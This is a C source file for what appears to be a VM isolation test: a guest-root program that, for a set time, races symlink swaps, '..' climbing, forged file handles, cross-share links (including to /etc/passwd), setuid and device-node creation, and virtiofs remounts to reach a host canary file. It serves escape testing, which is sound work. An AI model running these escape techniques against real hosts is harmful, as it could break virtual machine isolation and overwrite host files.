/*
 * A guest's root that wants out of its shared folders: `escape FOLDER OTHER OUTSIDE WORD SECONDS`. FOLDER and OTHER are
 * shared, both rw; beside them on the host, in the folder OUTSIDE, lies a file `canary` with WORD in it. For so many seconds
 * processes try at once to read it, to write it, to make anything beside it, or to make what would give rights on the host.
 * Says how often each tried, and `READ` with the path when WORD was seen.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { EXCHANGE = 2, UPS = 12 };

static const char *folder, *other, *outside, *word;
static time_t end;
static unsigned long tries;
static unsigned random_state;

static int going(void) { tries++; return time(0) < end; }
static unsigned any(unsigned below) { return (random_state = random_state * 1103515245 + 12345) / 65536 % below; }

/* Reads what was opened, looks for the word, and writes over it: nothing but decoys may change. */
static void use(int fd, const char *path) {
  char text[256] = "";
  if (fd < 0) return;
  if (read(fd, text, sizeof text - 1) > 0 && strstr(text, word)) printf("READ %s\n", path);
  if (pwrite(fd, "written by the guest", 20, 0) > 0) (void)!ftruncate(fd, 20);
  close(fd);
}
static void try_path(const char *path) {
  use(open(path, O_RDWR | O_NONBLOCK), path);
  use(open(path, O_RDONLY | O_NONBLOCK), path);
}
static void try_at(int at, const char *path) {
  if (at < 0) return;
  use(openat(at, path, O_RDWR | O_NONBLOCK), path);
  use(openat(at, path, O_RDWR | O_CREAT | O_NONBLOCK, 0666), path);
}

/* A folder takes turns with links that lead up and out, while others look up names in it. */
static void make_swap(void) {
  char path[4096];
  mkdir("swap", 0777), mkdir("swap/d", 0777);
  close(open("swap/d/canary", O_CREAT | O_WRONLY, 0666));
  snprintf(path, sizeof path, "%s", outside);
  (void)!symlink("../..", "swap/up"), (void)!symlink(path, "swap/abs"), (void)!symlink("/proc/self/root", "swap/magic");
}
static void swap(void) {
  static const char *const links[] = {"swap/up", "swap/abs", "swap/magic"};
  while (going()) {
    const char *link = links[any(3)];
    syscall(SYS_renameat2, AT_FDCWD, "swap/d", AT_FDCWD, link, EXCHANGE);
    if (any(3)) syscall(SYS_renameat2, AT_FDCWD, "swap/d", AT_FDCWD, link, EXCHANGE);
    rename("swap/d", "swap/e"), rename("swap/e", "swap/d");
  }
}
static void look_up(void) {
  static const char *const paths[] = {"swap/d/canary", "swap/d/../canary", "swap/d/../../canary", "swap/e/canary", "swap/up/canary",
    "swap/abs/canary", "swap/d/new", "swap/up/share/../canary", "swap/abs/../canary"};
  while (going()) {
    const char *path = paths[any(9)];
    int at = open("swap/d", O_PATH);
    try_path(path);
    try_at(at, "canary");
    try_at(at, "../canary");
    unlink("swap/d/new"), rename("swap/d/canary", "swap/d/x"), rename("swap/d/x", "swap/d/canary");
    struct stat status;
    if (fstatat(at, "canary", &status, 0) == 0) fchmodat(at, "canary", 0666, 0);
    close(at);
  }
}
/* A working folder is moved up and down, and left by `..` meanwhile. */
static void move(void) {
  while (going()) syscall(SYS_renameat2, AT_FDCWD, "deep/1/2", AT_FDCWD, "high", EXCHANGE);
}
static void climb(void) {
  while (going()) {
    int at = open(any(2) ? "deep/1/2/3/4" : "high/3/4", O_PATH | O_DIRECTORY);
    for (int up = 0; at >= 0 && up < UPS; up++) {
      int next = openat(at, "..", O_PATH | O_DIRECTORY);
      close(at);
      if ((at = next) < 0) break;
      use(openat(at, "canary", O_RDWR), "..");
      use(openat(at, "../canary", O_RDWR), "../..");
    }
    if (at >= 0) close(at);
  }
}
/* Handles of the share, and such as were never given out, also with a parent that is asked for. */
static void forge(void) {
  union { struct file_handle head; char bytes[sizeof(struct file_handle) + 64]; } one;
  int mount, root = open(".", O_RDONLY | O_DIRECTORY);
  while (going()) {
    one.head.handle_bytes = 64;
    if (name_to_handle_at(AT_FDCWD, any(2) ? "deep/1" : ".", &one.head, &mount, 0) < 0) { usleep(1000); continue; }
    uint32_t *words = (void *)one.head.f_handle;
    unsigned count = one.head.handle_bytes / 4;
    if (count && any(4)) words[any(count)] = any(2) ? any(4096) : any(65536) << 16 | any(65536);
    if (any(4) == 0) { one.head.handle_bytes = 24; one.head.handle_type = (int)(0x81 + any(2)); words[3] = 0, words[4] = any(8), words[5] = any(3); }
    int fd = open_by_handle_at(root, &one.head, any(2) ? O_RDONLY : O_PATH);
    if (fd < 0) continue;
    use(openat(fd, "canary", O_RDWR), "a handle");
    use(openat(fd, "../canary", O_RDWR), "above a handle");
    close(fd);
  }
}
/* Links and names across shares, devices, and rights. */
static void cross(void) {
  char mine[512], theirs[512], over[600];
  snprintf(mine, sizeof mine, "%s/linked", folder);
  snprintf(theirs, sizeof theirs, "%s/linked", other);
  snprintf(over, sizeof over, "%s/../canary", other);
  close(open(mine, O_CREAT | O_WRONLY, 0666));
  while (going()) {
    if (link(mine, theirs) == 0 || link("/etc/passwd", "from-root") == 0) printf("READ a link across\n");
    if (rename(mine, theirs) == 0) rename(theirs, mine);
    mknod("block", S_IFBLK | 0666, 0x0800), mknod("char", S_IFCHR | 0666, 0x0101);
    chmod(mine, 06777), chmod(mine, 0666);
    close(open("born", O_CREAT | O_WRONLY, 06777)), unlink("born");
    rename(mine, "../linked"), rename("../linked", mine), rename(mine, over), rename(over, mine);
    mkdir("..", 0777), rmdir(".."), unlink("../canary"), (void)!symlink("x", "../beside"), mkdir("../beside", 0777), rename(".", "..");
    rmdir("../beside"), unlink("../beside");
  }
}
/* The devices mounted once more, and looked at from their roots. */
static void mount_again(void) {
  char tag[16];
  mkdir("/mnt/again", 0777);
  while (going()) {
    snprintf(tag, sizeof tag, "share%u", any(4));
    if (mount(tag, "/mnt/again", "virtiofs", 0, any(2) ? "" : "dax") < 0) { usleep(5000); continue; }
    try_path("/mnt/again/canary"), try_path("/mnt/again/../canary"), try_path("/mnt/again/share/../canary");
    int at = open("/mnt/again", O_RDONLY | O_DIRECTORY);
    for (int up = 0; up < 4; up++) { use(openat(at, "canary", O_RDWR), "a mount"); int next = openat(at, "..", O_RDONLY); close(at); at = next; }
    close(at);
    if (chdir("/mnt/again") == 0) { try_path("../canary"); try_path("../../canary"); }
    if (chdir(folder) < 0) break;
    umount2("/mnt/again", MNT_DETACH);
  }
}

static const struct { const char *name; void (*attack)(void); } all[] = {
  {"swap", swap}, {"look up", look_up}, {"move", move}, {"climb", climb}, {"forge", forge}, {"cross", cross}, {"mount again", mount_again},
};

int main(int count, char **words) {
  if (count < 6) return 2;
  folder = words[1], other = words[2], outside = words[3], word = words[4];
  end = time(0) + atoi(words[5]);
  umask(0);
  if (chdir(folder) < 0) return 3;
  setvbuf(stdout, 0, _IOLBF, 0);
  make_swap();
  mkdir("deep", 0777), mkdir("deep/1", 0777), mkdir("deep/1/2", 0777), mkdir("deep/1/2/3", 0777), mkdir("deep/1/2/3/4", 0777);
  mkdir("high", 0777), mkdir("high/3", 0777), mkdir("high/3/4", 0777);
  for (unsigned i = 0; i < sizeof all / sizeof *all; i++) {
    if (fork() != 0) continue;
    random_state = i * 7919 + (unsigned)time(0);
    all[i].attack();
    printf("%s: %lu\n", all[i].name, tries);
    return 0;
  }
  while (wait(0) > 0) {}
}
